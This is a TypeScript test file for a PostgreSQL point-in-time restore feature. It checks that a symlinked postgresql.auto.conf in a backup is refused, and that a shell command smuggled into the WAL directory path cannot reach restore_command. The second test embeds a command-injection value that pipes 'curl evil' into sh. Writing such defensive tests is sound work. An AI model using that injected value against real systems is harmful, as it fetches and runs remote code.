import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { LocalDirTarget } from '../../src/backup/local-target.js';
import { recoverySettings } from '../../src/backup/pitr-argv.js';
import { prepareRecovery } from '../../src/backup/pitr-restore.js';
import type { BaseBackupRecord } from '../../src/core/pitr-model.js';

/**
 * A database's owner is its superuser and shapes what its base backup holds. A postgresql.auto.conf that is a
 * symlink in the backup must not make the (root) daemon read or write the file it points at when it adds the
 * recovery settings; and the daemon's own path in restore_command cannot carry a shell command.
 */
describe('point-in-time restore of a base backup holding a symlink', () => {
  const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'berth-pitr-symlink-'));
  afterAll(() => fs.rmSync(tmp, { recursive: true, force: true }));

  it('refuses a postgresql.auto.conf that is a symlink, leaving its target untouched', async () => {
    const victim = path.join(tmp, 'victim.conf');
    fs.writeFileSync(victim, 'secret\n');
    const src = path.join(tmp, 'src');
    fs.mkdirSync(src);
    fs.writeFileSync(
      path.join(src, 'backup_label'),
      'START WAL LOCATION: 0/2000028 (file 000000010000000000000002)\n',
    );
    fs.symlinkSync(victim, path.join(src, 'postgresql.auto.conf'));
    const tarFile = path.join(tmp, 'base.tar.gz');
    execFileSync('tar', ['--create', '--gzip', `--file=${tarFile}`, `--directory=${src}`, '.']);
    const target = new LocalDirTarget(path.join(tmp, 'target'));
    const key = 'base/s/e/b.tar.gz';
    const bytes = fs.readFileSync(tarFile);
    await target.put(key, fs.createReadStream(tarFile));
    const base: BaseBackupRecord = {
      serviceId: 's',
      environmentId: 'e',
      id: 'b',
      status: 'verified',
      key,
      startWal: '000000010000000000000002',
      endWal: '000000010000000000000002',
      sizeBytes: bytes.length,
      sha256: createHash('sha256').update(bytes).digest('hex'),
      error: null,
      createdAt: new Date().toISOString(),
      finishedAt: new Date().toISOString(),
    };
    const volume = path.join(tmp, 'volume');
    await expect(
      prepareRecovery({
        target,
        tools: { binDir: '/usr/lib/postgresql/15/bin' },
        base,
        segments: [],
        histories: [],
        at: new Date(),
        volume,
        pgdata: path.join(volume, 'pgdata'),
        owner: null,
      }),
    ).rejects.toThrow('postgresql.auto.conf in the base backup is not a regular file');
    expect(fs.readFileSync(victim, 'utf8')).toBe('secret\n');
    expect(fs.existsSync(path.join(volume, 'pgdata', 'recovery.signal'))).toBe(false);
  });

  it('cannot put a shell command into restore_command through the data dir path', () => {
    expect(() => recoverySettings({ walDir: '/data/x"; curl evil|sh; "', target: null })).toThrow(
      /cannot put in PostgreSQL's configuration/,
    );
  });
});
